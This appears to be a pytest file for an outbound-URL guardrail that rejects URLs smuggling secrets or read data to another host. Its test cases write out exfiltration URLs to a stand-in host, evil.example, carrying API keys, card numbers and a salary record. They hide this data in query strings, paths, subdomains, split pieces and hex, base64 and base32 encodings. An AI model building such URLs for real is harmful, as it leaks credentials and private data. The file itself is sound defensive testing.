"""URLs that carry more than the name of a page, S06 of the hardening list."""

from base64 import b32encode, urlsafe_b64encode
from urllib.parse import quote

import pytest

from app.outbound.url import read
from app.services.guardrails.secrets import named
from app.services.tools.carried import MAX_CODE_BITS, code_bits, objection

KEY = "sk-proj-Zx81kQpLm3VtYb72HsRw0fGd"
OURS = "ph_0123456789abcdef0123456789abcdef_" + "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0cD3fG6iJ9lM2o"
TOKEN = "kR7pXw2QvB9sLmT4zHcJ8nYd5GfE3aUq1oKi6PxVhWb"


def said(url: str) -> str | None:
    return objection(read(url), named, 400)


PAGES = [
    "https://example.org/",
    "https://docs.python.org/3.11/library/asyncio-subprocess.html#asyncio.create_subprocess_exec",
    "https://en.wikipedia.org/wiki/Reciprocal_rank_fusion?action=history&offset=20240501123456",
    "https://github.com/pallets/flask/commit/e3b0c44298fc1c149afbf4c8996fb92427ae41e4",
    "https://api.example.org/v2/orders/550e8400-e29b-41d4-a716-446655440000",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/getElementById",
    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster",
    "https://arxiv.org/abs/2005.11401v4",
    "https://zh.wikipedia.org/wiki/%E4%B8%AD%E6%96%87",
    "https://example.org/search?q=how+to+rotate+a+key&lang=en&page=2",
]


@pytest.mark.parametrize("url", PAGES)
def test_s06_a_url_that_names_a_page_may_be_asked_for(url: str) -> None:
    assert said(url) is None


@pytest.mark.parametrize("secret", [KEY, OURS, "4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE"])
@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?q={}",
        "https://evil.example/a/{}/b",
        "https://evil.example/a?x=1&{}=2",
    ],
)
def test_s06_a_secret_leaves_in_no_part_of_a_url(secret: str, url: str) -> None:
    once = quote(secret, safe="")
    for spelling in (once, quote(once, safe=""), "".join(f"%{byte:02x}" for byte in secret.encode())):
        assert said(url.format(spelling)), spelling


def test_s06_a_secret_leaves_in_no_subdomain() -> None:
    for cut in (8, 12, 20):
        labels = ".".join(TOKEN[start : start + cut] for start in range(0, len(TOKEN), cut))
        assert said(f"https://{labels}.evil.example/")


@pytest.mark.parametrize("cut", [4, 6, 12, 43])
@pytest.mark.parametrize("glue", ["/", "-", ".", "_", "&a=", "%2F", "%252F"])
def test_s06_a_secret_of_no_known_form_leaves_however_it_is_cut(cut: int, glue: str) -> None:
    pieces = glue.join(TOKEN[start : start + cut] for start in range(0, len(TOKEN), cut))
    assert said(f"https://evil.example/{pieces}") or said(f"https://evil.example/?{pieces}")


@pytest.mark.parametrize("encode", [lambda text: text.hex(), lambda text: urlsafe_b64encode(text).decode().strip("="),
                                    lambda text: b32encode(text).decode().strip("="),
                                    lambda text: "".join(f"{byte:03d}" for byte in text)])  # fmt: skip
def test_s06_what_was_read_leaves_in_no_encoding(encode: object) -> None:
    encoded = encode(b"the salary of Jane Roe is 91,000 a year")  # type: ignore[operator]
    assert said(f"https://evil.example/pixel.png?d={encoded}")
    assert said(f"https://evil.example/{encoded[:20]}/{encoded[20:]}")


def test_s06_a_url_and_its_host_are_bounded() -> None:
    assert "400 characters" in str(said("https://example.org/" + "word/" * 80))
    assert "host" in str(said("https://" + "a." * 7 + "example.org/"))
    assert "host" in str(said("https://" + "word" * 9 + ".example.org/"))


def test_s06_the_objection_repeats_nothing_of_the_url() -> None:
    why = str(said(f"https://evil.example/?q={KEY}"))
    assert "secret" in why
    assert "evil" not in why
    assert KEY[8:] not in why


def test_words_and_their_numbers_say_less_than_one_identifier() -> None:
    assert code_bits("py311 utf8 h264 getElementById README v1.2.3 2024-05-01 sha256 asyncio") == 0
    assert code_bits("iPhone15 OAuth2 IPv6") < MAX_CODE_BITS
    assert 0 < code_bits("550e8400-e29b-41d4-a716-446655440000") < MAX_CODE_BITS
    assert code_bits(TOKEN) > MAX_CODE_BITS
